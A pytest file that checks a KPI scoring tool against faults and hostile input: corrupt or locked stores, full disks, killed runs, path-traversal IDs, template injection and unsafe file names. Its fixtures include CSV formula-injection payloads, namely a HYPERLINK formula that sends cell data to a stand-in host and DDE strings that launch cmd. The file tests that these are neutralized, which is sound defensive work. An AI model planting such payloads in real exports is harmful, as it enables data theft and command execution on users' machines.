"""Faults and hostile input (issue 12): nothing partial, nothing lost, no traceback.

Each test makes its fault for real in a temporary folder: hostile plan files, a
store held by another process, a corrupt store, a full disk (RLIMIT_FSIZE), a
killed ``kpi report``, several processes at once.
"""

from __future__ import annotations

import csv
import html
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time

import pandas as pd
import pytest

import kpilib
from kpilib.cli import main
from kpilib.engine.formula import Formula, FormulaError
from kpilib.engine.plan import load_plan
from kpilib.errors import PlanError
from kpilib.sheets.workbooks import defuse
from tests.conftest import ROOT

PLAN_TEXT = """\
department: {department}
name: {name}
sources: {{targets: t.csv, actuals: "{actuals}"}}
measures: {{a: {{}}, b: {{}}}}
indicators: {{GMV: {{formula: "{formula}", rule: {{type: ratio}}}}}}
grades: [{{name: 合格, min: 60}}, {{name: 不合格}}]
"""


def write_plan(folder, stem="t", department="t", name="测试部", actuals="{month}.csv", formula="a"):
    path = folder / f"{stem}.yaml"
    text = PLAN_TEXT.format(department=department, name=name, actuals=actuals, formula=formula)
    path.write_text(text, encoding="utf-8")
    return path


def only_problem(info):
    assert len(info.value.problems) == 1, info.value
    return info.value.problems[0]


# --- group 5: the file name and department: agree; a department is a plain ID -----------


def test_a_copied_plan_that_keeps_its_department_key_is_refused(tmp_path):
    # the copy would otherwise be stored as channel_ops' next version and become current
    text = (ROOT / "params/channel_ops.yaml").read_text(encoding="utf-8")
    copy = tmp_path / "channel_ops_copy.yaml"
    copy.write_text(text, encoding="utf-8")
    with pytest.raises(PlanError) as info:
        load_plan(copy)
    problem = only_problem(info)
    assert problem.file == str(copy) and problem.where == "department"
    assert "channel_ops_copy" in problem.fix


@pytest.mark.parametrize("department", ["../../../x", "a/b", "..", "a b", "x.y"])
def test_a_department_id_is_a_plain_name(tmp_path, department):
    path = write_plan(tmp_path, stem="t", department=f"'{department}'")
    with pytest.raises(PlanError) as info:
        load_plan(path)
    problem = info.value.problems[0]
    assert problem.file == str(path) and problem.where == "department"


def test_a_chinese_department_id_is_plain(tmp_path):
    assert (
        load_plan(write_plan(tmp_path, stem="渠道_2", department="渠道_2")).department == "渠道_2"
    )


# --- group 6 (plans): a folder, a GBK file -----------------------------------------------


def test_a_plan_path_that_is_a_folder_is_a_plan_error(tmp_path):
    with pytest.raises(PlanError) as info:
        load_plan(tmp_path)
    assert only_problem(info).file == str(tmp_path)
    assert "文件夹" in str(info.value)


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig", "utf-16"])
def test_a_plan_saved_by_a_windows_editor_is_read(tmp_path, encoding):
    path = write_plan(tmp_path, name="渠道运营中心")
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))
    assert load_plan(path).name == "渠道运营中心"


def test_a_plan_in_no_known_encoding_names_the_file_and_the_fix(tmp_path):
    path = write_plan(tmp_path)
    path.write_bytes(path.read_bytes() + b"\n# \x80\xff\xff\x80\n")  # not UTF-8, not GB18030
    with pytest.raises(PlanError) as info:
        load_plan(path)
    assert only_problem(info).file == str(path) and "UTF-8" in info.value.problems[0].fix


# --- group 7: formulas are bounded; a literal division by zero is found at load ----------


@pytest.mark.parametrize(
    "text",
    [
        "+".join(["a"] * 600),  # a 600-term chain: over the length bound
        "+".join(["a"] * 300),  # 300 terms in 599 characters: over the depth bound
        "-" * 500 + "a",  # 500 nested unary minus
        "-" * 100_000 + "a",
        "(" * 300 + "a" + ")" * 300,
    ],
)
def test_huge_or_deep_formulas_are_a_formula_error(text):
    with pytest.raises(FormulaError):
        Formula.parse(text)


def test_a_formula_of_ordinary_size_still_parses():
    f = Formula.parse("+".join(["a"] * 50))
    assert f.evaluate(lambda name: 2.0) == 100.0


def test_a_huge_formula_in_a_plan_names_the_key(tmp_path):
    path = write_plan(tmp_path, formula="-" * 500 + "a")
    with pytest.raises(PlanError) as info:
        load_plan(path)
    assert only_problem(info).where == "indicators.GMV.formula"


@pytest.mark.parametrize("formula", ["a / 0", "a / (1 - 1)", "b + a / 0.0", "a / (2 * 0)"])
def test_a_literal_division_by_zero_is_a_plan_error_at_load(tmp_path, formula):
    path = write_plan(tmp_path, formula=formula)
    with pytest.raises(PlanError) as info:
        load_plan(path)
    problem = only_problem(info)
    assert problem.file == str(path) and problem.where == "indicators.GMV.formula"
    assert "0" in problem.message


def test_a_divisor_that_depends_on_data_is_checked_per_person():
    # a / (b - 1) is zero only where b is 1: not a plan error
    assert Formula.parse("a / (b - 1)").names == {"a", "b"}


# --- group 8: source templates allow only {month} ----------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "{mon}.csv",
        "{0}.csv",
        "{month.__class__}.csv",
        "{month[0]}.csv",
        "{month!r}.csv",
        "{month:>20}.csv",
        "{}.csv",
        "{month.csv",
        "{quarter}.csv",
        "{year!s}/{month}.csv",
    ],
)
def test_a_source_template_names_only_month(tmp_path, template):
    path = write_plan(tmp_path, actuals=template)
    with pytest.raises(PlanError) as info:
        load_plan(path)
    problem = only_problem(info)
    assert problem.file == str(path) and problem.where == "sources.actuals"


def test_the_month_template_still_works(tmp_path):
    plan = load_plan(write_plan(tmp_path, actuals="actuals/{month}.csv"))
    assert plan.source("actuals", "2024-11") == (tmp_path / "actuals/2024-11.csv").resolve()


def test_period_and_year_fields_fill_from_a_period_key(tmp_path):
    # issue 14: {period}/{year} were reserved for the periods work; now they are filled
    plan = load_plan(write_plan(tmp_path, actuals="actuals/{year}/{period}.csv"))
    assert plan.source("actuals", "2024-Q4") == (tmp_path / "actuals/2024/2024-Q4.csv").resolve()
    assert plan.source("actuals", "2024-11") == (tmp_path / "actuals/2024/2024-11.csv").resolve()


# --- group 10: CSV cells a spreadsheet would run are neutralized -------------------------

HOSTILE_NAMES = {
    "方磊": '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "冯雪": "+cmd|' /C calc'!A0",
    "彭丽": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def ecommerce_project(tmp_path, rename=None):
    """A copy of the ecommerce plan and its data, people renamed by ``rename``."""
    (tmp_path / "params").mkdir()
    shutil.copy(ROOT / "params/ecommerce.yaml", tmp_path / "params")
    shutil.copytree(ROOT / "data/ecommerce", tmp_path / "data/ecommerce")
    for path in (tmp_path / "data/ecommerce").rglob("*.csv"):
        table = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        table["姓名"] = table["姓名"].replace(rename or {})
        table.to_csv(path, index=False, encoding="utf-8")
    return tmp_path / "params/ecommerce.yaml"


def test_formula_like_names_in_csv_outputs_are_quoted(tmp_path, capsys):
    names = pd.read_csv(ROOT / "data/ecommerce/targets.csv", encoding="utf-8-sig")["姓名"]
    assert set(HOSTILE_NAMES) <= set(names)
    plan = ecommerce_project(tmp_path, HOSTILE_NAMES)
    out = tmp_path / "out"
    assert main(["score", str(plan), "--month", "2024-11", "--out", str(out), "--no-store"]) == 0
    clean = kpilib.score_month(ROOT / "params/ecommerce.yaml", "2024-11").people
    for name in ("people.csv", "items.csv"):
        with open(out / name, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        first_cells = {row[0] for row in rows[1:]}
        for hostile in HOSTILE_NAMES.values():
            assert hostile not in first_cells and f"'{hostile}" in first_cells
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    people = pd.read_csv(out / "people.csv", encoding="utf-8-sig")
    # scores are unchanged: the quote is on text cells only
    assert people["total"].tolist() == pytest.approx(clean["total"].tolist())


def test_negative_numbers_are_not_quoted_but_formula_text_is():
    table = pd.DataFrame(
        {"reason": ["-3", "-12.5%", "-x", "=1+1", "\tA", "正常", None], "points": [-3.5] * 7}
    )
    out = defuse(table)
    assert out["reason"][:6].tolist() == ["-3", "-12.5%", "'-x", "'=1+1", "'\tA", "正常"]
    assert pd.isna(out["reason"][6])
    assert out["points"].tolist() == [-3.5] * 7
    assert table["reason"][3] == "=1+1"  # the input is not changed


# --- group 9: text from users is shown literally -----------------------------------------

MATHTEXT = r"$\frac{1}{$"


def channel_ops_project(tmp_path, replace=None):
    """A project folder with channel_ops' plan (text replaced) and the shipped data."""
    (tmp_path / "params").mkdir()
    (tmp_path / "data").symlink_to(ROOT / "data")
    text = (ROOT / "params/channel_ops.yaml").read_text(encoding="utf-8")
    for old, new in (replace or {}).items():
        assert old in text
        text = text.replace(old, new)
    plan = tmp_path / "params/channel_ops.yaml"
    plan.write_text(text, encoding="utf-8")
    return plan


def test_a_plan_name_with_a_slash_makes_a_payroll_workbook(tmp_path):
    import openpyxl

    plan = channel_ops_project(tmp_path, {"name: 渠道运营中心": "name: 华东/华南:渠道[一]部"})
    assert main(["score", str(plan), "--month", "2024-11", "--out", str(tmp_path / "o")]) == 0
    out = tmp_path / "payroll.xlsx"
    assert main(["payroll", str(plan), "--month", "2024-11", "--out", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["2024-11 绩效工资"]
    assert "华东/华南:渠道[一]部" in book.active["A1"].value  # the title says it as written


def test_mathtext_in_names_is_drawn_literally():
    from kpilib.report import charts

    result = kpilib.score_month(ROOT / "params/channel_ops.yaml", "2024-11")
    items = result.items.assign(person=result.items["person"].replace("潘君捷", MATHTEXT))
    items["indicator"] = items["indicator"].replace("GMV指标", MATHTEXT)
    fig = charts.completion_heatmap(items, title=MATHTEXT)
    assert charts.to_png(fig).startswith(b"\x89PNG")
    labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
    assert MATHTEXT in labels and fig.axes[0].get_title() == MATHTEXT


# --- group 2: kpi score is all-or-nothing across the CSVs and the store ------------------

MONTH = "2024-11"
SCORE = ["score", str(ROOT / "params/channel_ops.yaml"), "--month", MONTH]


def stored_versions(store) -> list[int]:
    import duckdb

    with duckdb.connect(str(store), read_only=True) as con:
        return [v for (v,) in con.execute("SELECT version FROM runs ORDER BY 1").fetchall()]


def fresh_store(tmp_path):
    """A store holding October only: scoring November must then write to it (a month
    already stored with unchanged inputs is read back, not saved again)."""
    store = tmp_path / "store" / "results.duckdb"
    october = [*SCORE[:3], "2024-10"]
    assert main([*october, "--out", str(tmp_path / "first"), "--store", str(store)]) == 0
    return store


def assert_nothing_written(out, capsys, *words):
    err = capsys.readouterr().err
    assert not out.exists() or list(out.iterdir()) == [], list(out.iterdir())
    assert "Traceback" not in err
    for word in words:
        assert word in err, err
    return err


def test_a_store_held_by_a_notebook_leaves_no_csv_and_names_the_process(
    tmp_path, capsys, monkeypatch
):
    store = fresh_store(tmp_path)
    monkeypatch.setattr("kpilib.store.LOCK_WAIT", 0.3)
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(store)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout.readline().strip() == "holding"
        out = tmp_path / "out"
        assert main([*SCORE, "--out", str(out), "--store", str(store)]) == 2
        err = assert_nothing_written(out, capsys, "占用", f"PID {holder.pid}")
        assert "Kernel" in err
    finally:
        holder.kill()
        holder.wait(timeout=10)
    # once the notebook lets go, the same command succeeds: nothing was left to refuse it
    assert main([*SCORE, "--out", str(out), "--store", str(store)]) == 0
    assert (out / "people.csv").exists() and stored_versions(store) == [1, 1]


HOLD = """
import sys, time, duckdb
con = duckdb.connect(sys.argv[1])
print("holding", flush=True)
time.sleep(60)
"""


def corrupt(store, how):
    data = bytearray(store.read_bytes())
    if how == "garbage":
        data = bytearray(b"not a database " * 100)
    elif how == "truncated":
        data = data[: len(data) // 2]
    else:  # checksum: every block after the file headers damaged
        for i in range(12288, len(data)):
            data[i] ^= 0x5A
    store.write_bytes(bytes(data))


@pytest.mark.parametrize("how", ["garbage", "truncated", "checksum"])
def test_a_corrupt_store_leaves_no_csv_and_says_how_to_recover(tmp_path, capsys, how):
    store = fresh_store(tmp_path)
    corrupt(store, how)
    before = store.read_bytes()
    capsys.readouterr()
    out = tmp_path / "out"
    assert main([*SCORE, "--out", str(out), "--store", str(store)]) == 2
    assert_nothing_written(out, capsys, "损坏", f"mv {store} {store}.broken")
    assert store.read_bytes() == before  # never replaced
    assert main(["history", "--store", str(store)]) == 2
    assert "损坏" in capsys.readouterr().err


def test_a_read_only_store_leaves_no_csv_and_is_not_called_corrupt(tmp_path, capsys):
    store = fresh_store(tmp_path)
    folder = store.parent
    if os.geteuid() == 0:  # root writes through file modes: use a read-only mount
        shutil.copy(store, tmp_path / "copy.duckdb")
        if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", folder]).returncode:
            pytest.skip("cannot mount a file system here")
        shutil.copy(tmp_path / "copy.duckdb", store)
        subprocess.run(["mount", "-o", "remount,ro", folder], check=True)
    else:
        store.chmod(0o444)
        folder.chmod(0o555)
    try:
        capsys.readouterr()
        out = tmp_path / "out"
        assert main([*SCORE, "--out", str(out), "--store", str(store)]) == 2
        err = assert_nothing_written(out, capsys, "只读", "--no-store")
        assert "损坏" not in err and "mv " not in err
    finally:
        if os.geteuid() == 0:
            subprocess.run(["umount", folder], check=True)
        else:
            folder.chmod(0o755)
            store.chmod(0o644)


FULL_DISK = """
import resource, signal, sys
from kpilib.cli import main
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
limit = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
sys.exit(main(sys.argv[2:]))
"""


def test_a_full_disk_leaves_no_csv_and_names_the_cause(tmp_path):
    store = fresh_store(tmp_path)
    out = tmp_path / "out"
    # no file may grow past the limit: items.csv (7.6 KB, the largest output) fits, the
    # store's write-ahead log for the same rows (12.6 KB, measured) does not. A failed
    # checkpoint alone would not do: DuckDB keeps the log and loses nothing.
    args = [*SCORE, "--out", str(out), "--store", str(store)]
    limit = int((tmp_path / "first/items.csv").stat().st_size * 1.3)
    run = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(limit), *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert run.returncode == 2, run.stderr
    assert "Traceback" not in run.stderr and "no transaction is active" not in run.stderr
    assert "磁盘已满" in run.stderr
    assert not out.exists() or list(out.iterdir()) == []
    assert stored_versions(store) == [1]
    assert main(args) == 0 and stored_versions(store) == [1, 1]


# --- groups 1, 3, 6: kpi report's versions, index and run log ----------------------------


def report_project(tmp_path):
    """A project with channel_ops (real plan, data, notebook) and a department whose
    month has no actuals (fails fast, before any notebook)."""
    root = tmp_path / "project"
    (root / "params").mkdir(parents=True)
    (root / "data").symlink_to(ROOT / "data")
    shutil.copytree(ROOT / "notebooks", root / "notebooks")
    text = (ROOT / "params/channel_ops.yaml").read_text(encoding="utf-8")
    (root / "params/channel_ops.yaml").write_text(text, encoding="utf-8")
    broken = text.replace("department: channel_ops", "department: no_actuals").replace(
        "actuals/{month}.csv", "missing/{month}.csv"
    )
    (root / "params/no_actuals.yaml").write_text(broken, encoding="utf-8")
    return root


def report_args(root, *departments, jobs=1):
    return [
        *("report", "--month", MONTH, "--format", "html", "--jobs", str(jobs)),
        *("--params", str(root / "params"), "--out", str(root / "reports")),
        *(("--dept", *departments) if departments else ()),
    ]


def runs_log(root) -> list[dict]:
    return json.loads((root / "reports" / MONTH / "runs.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("department", ["nosuch", "../../../x", "a/b"])
def test_an_unknown_department_is_refused_and_stays_out_of_the_index(tmp_path, capsys, department):
    root = report_project(tmp_path)
    assert main(report_args(root, department, "no_actuals")) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and f"部门 {department!r} 没有方案" in err
    assert [r["department"] for r in runs_log(root)] == ["no_actuals"]
    index = (root / "reports" / MONTH / "index.html").read_text(encoding="utf-8")
    assert department not in index and "no_actuals" in index
    assert not (tmp_path / "x").exists() and not (root / "reports" / MONTH / "a").exists()


def test_a_corrupt_run_log_is_kept_aside_and_rebuilt(tmp_path, capsys):
    root = report_project(tmp_path)
    month = root / "reports" / MONTH
    month.mkdir(parents=True)
    (month / "runs.json").write_text('[{"department": "channel_ops", "sta', encoding="utf-8")
    assert main(report_args(root, "no_actuals")) == 1
    assert "Traceback" not in capsys.readouterr().err
    assert [r["department"] for r in runs_log(root)] == ["no_actuals"]
    (broken,) = month.glob("runs.json.broken-*")
    assert broken.read_text(encoding="utf-8") == '[{"department": "channel_ops", "sta'


def test_an_out_that_is_a_file_is_refused(tmp_path, capsys):
    root = report_project(tmp_path)
    (root / "reports").write_text("not a folder")
    assert main(report_args(root, "no_actuals")) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "不是文件夹" in err
    out = tmp_path / "file.csv"
    out.write_text("x")
    assert main([*SCORE, "--out", str(out), "--no-store"]) == 2
    assert "不是文件夹" in capsys.readouterr().err and out.read_text() == "x"


RESERVE = """
import sys
import time
from pathlib import Path
from kpilib.report import versions
from kpilib.report.index import write_index
month, name = Path(sys.argv[1]), sys.argv[2]
for i in range(5):
    work, version = versions.new_version(month / "channel_ops")
    (work / "channel_ops.html").write_text(name, encoding="utf-8")
    versions.finish(work, {"department": "channel_ops", "name": name, "status": "ok",
                           "made_at": f"2024-12-01T00:00:0{i}", "version": version,
                           "folder": f"channel_ops/v{version}", "error": "", "files": {}})
    write_index(month, "2024-11")
"""


def test_six_processes_at_once_never_lose_a_run_or_share_a_version(tmp_path):
    month = tmp_path / "reports" / MONTH
    writers = [
        subprocess.Popen(
            [sys.executable, "-c", RESERVE, str(month), f"p{n}"],
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )
        for n in range(6)
    ]
    assert [w.wait(timeout=120) for w in writers] == [0] * 6
    runs = json.loads((month / "runs.json").read_text(encoding="utf-8"))
    assert sorted(r["version"] for r in runs) == list(range(1, 31))
    # each version folder holds what its own run wrote
    for run in runs:
        page = month / run["folder"] / "channel_ops.html"
        assert page.read_text(encoding="utf-8") == run["name"]
    assert sorted(p.name for p in (month / "channel_ops").iterdir()) == sorted(
        f"v{n}" for n in range(1, 31)
    )
    index = (month / "index.html").read_text(encoding="utf-8")
    assert "v30（当前）" in index and index.count("（当前）") == 1


def test_a_version_of_a_killed_run_is_not_listed_and_is_removed_next_time(tmp_path):
    from kpilib.report import versions

    department = tmp_path / MONTH / "channel_ops"
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        work, version = versions.new_version(department)
        (work / ".owner").write_text(f"{socket.gethostname()} {sleeper.pid}", encoding="utf-8")
        (work / "channel_ops.html").write_text("half a report", encoding="utf-8")
        assert versions.read_records(tmp_path / MONTH) == []  # not listed while building
        assert versions.remove_leftovers(department) == []  # its process is alive
    finally:
        sleeper.kill()
        sleeper.wait(timeout=10)
    again, number = versions.new_version(department)  # the next run cleans up
    assert number == version == 1 and again == work  # the number is free again
    assert sorted(p.name for p in again.iterdir()) == [".owner"]  # the half report is gone


# --- group 4: every person gets exactly one scorecard with a safe, bounded name ----------

LONG_NAME = "欧阳" + "明" * 88  # 90 characters, 270 bytes of UTF-8: over the 255-byte limit


def test_scorecards_of_colliding_and_very_long_names(tmp_path):
    from kpilib.report.scorecards import write_scorecards
    from kpilib.report.sections import MonthReport

    plan = ecommerce_project(tmp_path, {"方磊": "李*明", "冯雪": "李?明", "彭丽": LONG_NAME})
    report = MonthReport.load("ecommerce", MONTH, plan_path=plan)
    cards = write_scorecards(report, tmp_path / "cards")
    people = report.result.people["person"].tolist()
    assert sorted(cards) == sorted(people) and len(people) == 7
    on_disk = sorted((tmp_path / "cards").iterdir())
    assert sorted(cards.values()) == on_disk  # one file each, none lost to a collision
    assert cards["李*明"] != cards["李?明"]
    assert all(len(p.name.encode("utf-8")) <= 255 for p in on_disk)
    for person, path in cards.items():
        page = path.read_text(encoding="utf-8")
        assert f"<h1>{html.escape(person)}" in page  # each file holds its own person
    assert cards["韩梅"].name == "韩梅.html"  # a plain name keeps its plain file name


def test_card_names_are_safe_unique_and_bounded():
    from kpilib.report.scorecards import card_names

    names = card_names(["李*明", "李?明", "李_明", "a/../b", "CON", "..", "Amy", "amy", LONG_NAME])
    assert len(set(names.values())) == 9
    assert len({n.casefold() for n in names.values()}) == 9  # Windows and macOS fold case
    for name in names.values():
        assert not set(name) & set('/\\:*?"<>|') and not name.startswith(".")
        assert len(name.encode("utf-8")) <= 130
    assert names[LONG_NAME].startswith("欧阳明明")


def kpi(root, *args):
    return subprocess.Popen(
        [sys.executable, "-m", "kpilib.cli", *args],
        cwd=root,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


@pytest.mark.slow
def test_three_kpi_reports_at_once_keep_every_run(tmp_path):
    root = report_project(tmp_path)
    runs = [kpi(root, *report_args(root, "channel_ops", "no_actuals")) for _ in range(3)]
    results = [r.communicate(timeout=300) for r in runs]
    assert [r.returncode for r in runs] == [1, 1, 1], results  # no_actuals fails each time
    assert not any("Traceback" in err for _, err in results)
    log = runs_log(root)
    ok = sorted(r["version"] for r in log if r["department"] == "channel_ops")
    assert ok == [1, 2, 3] and all(r["status"] == "ok" for r in log if r["version"])
    assert sum(r["department"] == "no_actuals" for r in log) == 3
    folder = root / "reports" / MONTH / "channel_ops"
    assert sorted(p.name for p in folder.iterdir()) == ["v1", "v2", "v3"]
    for version in folder.iterdir():
        assert (version / "channel_ops.html").exists() and (version / "run.json").exists()


@pytest.mark.slow
def test_a_killed_kpi_report_leaves_no_version_and_the_next_run_cleans_up(tmp_path):
    root = report_project(tmp_path)
    folder = root / "reports" / MONTH / "channel_ops"
    run = kpi(root, *report_args(root, "channel_ops"))
    deadline = time.monotonic() + 120
    while not (folder / ".v1.tmp" / "channel_ops.ipynb").exists():  # the notebook is running
        assert time.monotonic() < deadline and run.poll() is None
        time.sleep(0.05)
    run.send_signal(signal.SIGKILL)
    run.communicate(timeout=30)
    assert [p.name for p in folder.iterdir()] == [".v1.tmp"]  # never looks like a version
    index = root / "reports" / MONTH / "index.html"
    assert not index.exists() or "channel_ops/v1" not in index.read_text(encoding="utf-8")
    assert main(report_args(root, "channel_ops")) == 0
    assert [p.name for p in folder.iterdir()] == ["v1"]
    assert [(r["department"], r["version"], r["status"]) for r in runs_log(root)] == [
        ("channel_ops", 1, "ok")
    ]
